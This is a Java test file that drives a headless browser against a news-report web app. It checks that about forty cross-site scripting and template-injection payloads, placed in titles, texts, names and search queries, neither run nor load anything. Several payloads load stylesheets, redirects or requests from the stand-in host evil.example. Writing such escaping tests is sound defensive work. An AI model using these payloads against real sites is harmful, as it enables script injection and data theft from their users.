package org.parallax.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Reports that would rather be programs: 320 attacks in titles, texts, names and addresses. */
@EnabledIf(
        value = "org.parallax.browser.Studio#isThereABrowser",
        disabledReason = "there is no /usr/bin/chromium")
class HostileTest {
    /** {@code @} stands for what tells that it ran. */
    private static final List<String> ATTACKS =
            List.of(
                    "<script>@</script>",
                    "<ScRiPt >@</sCrIpT >",
                    "</title><script>@</script>",
                    "</textarea><script>@</script>",
                    "</mark><svg onload=@>",
                    "<img src=x onerror=@>",
                    "\"><img src=http://evil.example/x onerror=@>",
                    "'><img src=x onerror='@'>",
                    "\" onmouseover=\"@\" autofocus onfocus=\"@",
                    "' onfocus='@' tabindex='0",
                    "` onload=`@",
                    "<body onload=@>",
                    "<iframe src='javascript:@'></iframe>",
                    "<iframe srcdoc='<script>@</script>'></iframe>",
                    "<object data='javascript:@'></object>",
                    "<embed src='http://evil.example/x.svg'>",
                    "<link rel=stylesheet href=http://evil.example/x.css>",
                    "<style>@import 'http://evil.example/x.css'</style>",
                    "<style>body{background:url(http://evil.example/x)}</style>",
                    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
                    "<base href=http://evil.example/>",
                    "<form action=http://evil.example/><input autofocus onfocus=@>",
                    "<svg><animate onbegin=@ attributeName=x dur=1s>",
                    "<svg><script>@</script></svg>",
                    "<math><mi xlink:href=javascript:@>x</mi></math>",
                    "<details open ontoggle=@>",
                    "<video><source onerror=@></video>",
                    "<a href=javascript:@>x</a>",
                    "javascript:@//",
                    "data:text/html,<script>@</script>",
                    "{{constructor.constructor('@')()}}",
                    "${@}",
                    "<%= @ %>",
                    "--><script>@</script><!--",
                    "]]><script>@</script>",
                    "\\u003cscript\\u003e@\\u003c/script\\u003e",
                    "&lt;script&gt;@&lt;/script&gt;",
                    "<div hx-get=http://evil.example/ hx-trigger=load>",
                    "<div hx-on::load=@>",
                    "<x data-hx-get=/accounts data-hx-trigger=load>");

    /** What may be asked for, in characters. */
    private static final int LONGEST = 200;

    @TempDir
    @SuppressWarnings("NullAway.Init") // by JUnit
    static Path folder;

    private static String attack(int number) {
        String ran = "document.title='ran%d';alert(%d)".formatted(number, number);
        return ATTACKS.get(number % ATTACKS.size()).replace("@", ran);
    }

    /**
     * A report for each kind of attack, so that each stands once in every field: outlet, title,
     * address, and five places of the text, one of them a victim's name.
     */
    private static List<String> reports() {
        List<String> reports = new ArrayList<>();
        for (int i = 0; i < ATTACKS.size(); i++) {
            String text =
                    "%d people were killed by shelling in Hama on Monday, %s said. Among the dead was"
                                    .formatted(i + 2, attack(i))
                            + " Omar %s, 12. %s was hit. The mayor, %s, blamed %s."
                                    .formatted(
                                            attack(i + 5),
                                            attack(i + 10),
                                            attack(i + 15),
                                            attack(i + 20));
            reports.add(
                    Reports.line(
                            "h" + i,
                            attack(i + 25),
                            "2031-04-%02d".formatted(i % 28 + 1),
                            attack(i + 30),
                            text,
                            attack(i + 35)));
        }
        return reports;
    }

    @Test
    void attacksRunNothingAndLoadNothing() throws IOException, InterruptedException {
        try (Program program = Program.serving(folder, reports());
                Studio studio = new Studio(program.address())) {
            Set<String> titles = new LinkedHashSet<>();
            studio.look(page -> {
                List<String> pages = new ArrayList<>(List.of("/", "/review", "/origins"));
                pages.add("/changes?since=1");
                for (int i = 0; i < ATTACKS.size(); i++) pages.add("/report?id=h" + i);
                pages.add("/add");
                page.navigate("/");
                incidents(page).forEach(pages::add);
                for (String path : pages) {
                    assertEquals(200, page.navigate(path).status(), path);
                    assertEquals(0, page.locator("iframe, object, embed, style, base").count());
                    titles.add(page.title());
                }
            });
            assertTrue(titles.size() > 3, titles.toString());
            assertTrue(titles.stream().noneMatch(it -> it.matches("ran\\d+")), titles.toString());
            assertEquals(List.of(), studio.complaints());
        }
    }

    @Test
    void whatIsAskedAndDecidedStaysText(@TempDir Path own)
            throws IOException, InterruptedException {
        try (Program program = Program.serving(own, Reports.WEEK);
                Studio studio = new Studio(program.address())) {
            studio.look(page -> {
                for (String attacks : asked()) {
                    String asked = URLEncoder.encode(attacks, StandardCharsets.UTF_8);
                    for (String room : List.of("/?q=", "/actors?q=", "/places?q=")) {
                        assertEquals(200, page.navigate(room + asked).status(), attacks);
                        assertTrue(isIn(page.locator("input[name=q]"), attacks), room + attacks);
                    }
                }
                page.navigate("/");
                page.navigate(incidents(page).getFirst());
                page.locator("summary:has-text('Accept as it is')").click();
                page.locator("#a-why").fill(String.join(" ", ATTACKS));
                page.locator("details[open] button.main").click();
                page.waitForSelector("#h-decisions");
                assertEquals(0, page.locator("main script, main iframe, main img").count());
            });
            assertEquals(List.of(), studio.complaints());
        }
    }

    /**
     * As many at once as may be asked for: a page that is open to one is open to it among others.
     * What is an address stands alone, as it is one at the beginning only.
     */
    private static List<String> asked() {
        List<String> asked = new ArrayList<>();
        String several = "";
        for (int i = 0; i < ATTACKS.size(); i++) {
            String attack = ATTACKS.get(i).replace("@", "alert(%d)".formatted(i));
            if (attack.matches("(javascript|data):.*")) {
                asked.add(attack);
            } else if (several.length() + attack.length() < LONGEST) {
                several += attack;
            } else {
                asked.add(several);
                several = attack;
            }
        }
        asked.add(several);
        return asked;
    }

    private static boolean isIn(Locator fields, String text) {
        String compare = "(all, text) => all.some(it => it.value === text)";
        return fields.evaluateAll(compare, text).equals(true);
    }

    private static List<String> incidents(Page page) {
        Object ways =
                page.evaluate(
                        "[...document.querySelectorAll('#incidents a')].map(a =>"
                                + " a.getAttribute('href'))");
        return ((List<?>) ways).stream().map(String::valueOf).toList();
    }
}
